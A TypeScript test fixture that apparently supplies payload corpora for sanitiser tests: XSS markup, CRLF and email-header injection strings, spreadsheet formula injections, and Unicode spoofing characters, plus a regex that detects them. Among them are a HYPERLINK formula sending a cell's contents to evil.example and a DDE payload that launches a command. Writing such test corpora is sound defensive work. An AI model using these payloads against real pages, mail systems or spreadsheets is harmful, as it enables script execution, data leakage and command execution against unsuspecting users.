/** Markup that would run if it were ever put into a page or an email unescaped. */
export const XSS_CORPUS = [
  '<script>window.hacked = true</script>',
  '<img src=x onerror="window.hacked=true">',
  '"><svg onload=window.hacked=true>',
  "'><iframe srcdoc='<script>parent.hacked=true</script>'>",
  '</title><script>window.hacked=true</script>',
  '</td></tr></table><form action=https://evil.example><input autofocus onfocus=hacked=true>',
  'javascript:window.hacked=true//',
  '<a href="javascript:window.hacked=true">click</a>',
  '{{constructor.constructor("window.hacked=true")()}}',
  '<style>@import "https://evil.example/x.css"</style>',
  '&lt;script&gt;window.hacked=true&lt;/script&gt;',
  '<ScRiPt/x>window.hacked=true</ScRiPt\t>',
  '\u202Egpj.exe<b>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>',
];

/** Line breaks of all kinds, each followed by a header that must not be injected. */
export const CRLF_CORPUS = [
  'Test\r\nBcc: other@example.com',
  'Test\nBcc: other@example.com',
  'Test\rBcc: other@example.com',
  'Test\r\n\r\n<script>window.hacked = true</script>',
  'Test\u2028Bcc: other@example.com',
  'Test\u2029Bcc: other@example.com',
  'Test\u0085Bcc: other@example.com',
  'Test\u000b\u000cBcc: other@example.com',
  'Test\u0000Bcc: other@example.com',
  'Test%0d%0aBcc: other@example.com',
  'Test\r\n.\r\nMAIL FROM:<evil@example.com>',
  '=?utf-8?B?DQpCY2M6IG90aGVyQGV4YW1wbGUuY29t?=',
  'Test" <evil@example.com>, "x',
  'Test\r\nContent-Type: text/html; boundary="x"\r\n\r\n--x',
];

/** Texts that a spreadsheet would interpret as a formula, or as another field or row. */
export const CSV_CORPUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  ';=1+1',
  ',=1+1',
  '"=1+1"',
  '","=1+1","',
  "'=1+1",
  '%0A=1+1',
  '|=1+1',
];

/** Texts that would be displayed as something else, or not at all. */
export const UNSEEN_CORPUS = [
  'Ann\u202egpj.exe',
  '\u2067Ann\u2069',
  'A\u200bnn\ufeff',
  'Ann\u2028Phone: 01632 960999',
  'Ann\u2029Phone: 01632 960999',
  '\u200b',
  '\u3164',
];

/** The characters that must not remain of any of them. */
export const UNSEEN = /[\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u3164\u2028\u2029]/;
